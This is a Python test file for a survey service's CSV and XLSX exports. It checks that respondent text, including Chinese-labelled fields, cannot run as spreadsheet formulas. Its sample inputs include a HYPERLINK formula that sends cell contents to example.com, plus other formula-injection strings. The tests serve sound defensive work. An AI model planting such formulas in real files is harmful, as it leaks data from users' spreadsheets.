"""Exports of untrusted text: what respondents type reaches evaluators as text, never a formula."""

import csv
import io
import uuid
from typing import Any

import httpx
from openpyxl import load_workbook

# Texts a spreadsheet would run as formulas (OWASP), one per trigger, in free-text answers.
RISKY = ['=HYPERLINK("http://example.com/?d="&A1,"点击")', "+1+1", "-2+3", "@SUM(1)"]
FORM: dict[str, Any] = {
    "name": "意见征集",
    "header": [{"code": "电话", "label": "+电话"}],
    "questions": [
        {
            "kind": "scored",
            "code": "分",
            "text": "总体评分",
            "max_points": 10,
            "bands": [{"label": "-低", "low": 0, "high": 5}, {"label": "高", "low": 6, "high": 10}],
        },
        {"kind": "choice", "code": "=选", "text": "行业", "options": ["制造", "商贸"]},
        {"kind": "text", "code": "议", "text": "=意见", "required": False},
    ],
}


async def _fielded(survey: httpx.AsyncClient) -> dict[str, Any]:
    """Store FORM, field it for the groups 企业 and @市民, and take four sheets."""
    made = await survey.post("/questionnaires", json=FORM)
    assert made.status_code == 201, made.text
    body = {"questionnaire_key": made.json()["key"], "name": "意见", "groups": ["企业", "@市民"]}
    created = await survey.post("/surveys", json=body)
    assert created.status_code == 201, created.text
    fielded: dict[str, Any] = created.json()
    phones = ["+86 138 0000 0000", "", "", ""]
    for points, text, phone in zip([0, 10, 7, 3], RISKY, phones, strict=True):
        sheet = {
            "id": str(uuid.uuid4()),
            "answers": {"分": points, "=选": "制造", "议": text},
            "header": {"电话": phone},
            "group": "@市民",
        }
        sent = await survey.post(f"/s/{fielded['public_token']}/sheets", json=sheet)
        assert sent.status_code == 201, sent.text
    return fielded


async def test_answers_csv_quotes_texts_that_would_run_and_keeps_numbers(
    survey: httpx.AsyncClient,
) -> None:
    made = await _fielded(survey)
    raw = await survey.get(f"/surveys/{made['id']}/exports/answers.csv")
    assert raw.status_code == 200, raw.text
    rows = list(csv.reader(io.StringIO(raw.content.decode("utf-8-sig"))))
    assert rows[0][5:] == ["受访群体", "'+电话", "分. 总体评分", "'=选. 行业", "议. =意见", "合计"]
    # Group, phone, points, choice, text, total of each sheet, in the order received.
    assert sorted(row[5:] for row in rows[1:]) == sorted(
        [
            ["'@市民", "'+86 138 0000 0000", "0", "制造", "'" + RISKY[0], "0"],
            ["'@市民", "", "10", "制造", "'+1+1", "10"],
            ["'@市民", "", "7", "制造", "'-2+3", "7"],
            ["'@市民", "", "3", "制造", "'@SUM(1)", "3"],
        ]
    )


async def test_answers_xlsx_stores_texts_that_would_run_as_text_cells_and_numbers_as_numbers(
    survey: httpx.AsyncClient,
) -> None:
    made = await _fielded(survey)
    raw = await survey.get(f"/surveys/{made['id']}/exports/answers.xlsx")
    assert raw.status_code == 200, raw.text
    sheet = load_workbook(io.BytesIO(raw.content)).active
    assert sheet is not None
    header = [(c.value, c.data_type, c.quotePrefix) for c in sheet[1]][5:]
    assert header == [
        ("受访群体", "s", False),
        ("+电话", "s", True),
        ("分. 总体评分", "s", False),
        ("=选. 行业", "s", True),
        ("议. =意见", "s", False),
        ("合计", "s", False),
    ]
    rows = [[(c.value, c.data_type, c.quotePrefix) for c in row][5:] for row in sheet.iter_rows(2)]
    first = ("@市民", "s", True)
    assert sorted(rows, key=lambda row: str(row[2][0])) == [
        [first, ("+86 138 0000 0000", "s", True), (0, "n", False), ("制造", "s", False),
         (RISKY[0], "s", True), (0, "n", False)],
        [first, (None, "n", False), (10, "n", False), ("制造", "s", False),
         ("+1+1", "s", True), (10, "n", False)],
        [first, (None, "n", False), (3, "n", False), ("制造", "s", False),
         ("@SUM(1)", "s", True), (3, "n", False)],
        [first, (None, "n", False), (7, "n", False), ("制造", "s", False),
         ("-2+3", "s", True), (7, "n", False)],
    ]  # fmt: skip


async def test_distribution_exports_quote_labels_that_would_run(
    survey: httpx.AsyncClient,
) -> None:
    made = await _fielded(survey)
    base = f"/surveys/{made['id']}/exports"
    raw = await survey.get(f"{base}/distribution.csv")
    rows = list(csv.reader(io.StringIO(raw.content.decode("utf-8-sig"))))
    assert [row[:5] for row in rows[1:3]] == [
        ["分", "总体评分", "'-低", "2", "50.00%"],
        ["分", "总体评分", "高", "2", "50.00%"],
    ]
    assert rows[4][:3] == ["'=选", "行业", "制造"]
    sheet = load_workbook(io.BytesIO((await survey.get(f"{base}/distribution.xlsx")).content))
    active = sheet.active
    assert active is not None
    assert [(c.value, c.data_type, c.quotePrefix) for c in active[2]] == [
        ("分", "s", False),
        ("总体评分", "s", False),
        ("-低", "s", True),
        (2, "n", False),
        ("50.00%", "s", False),
    ]
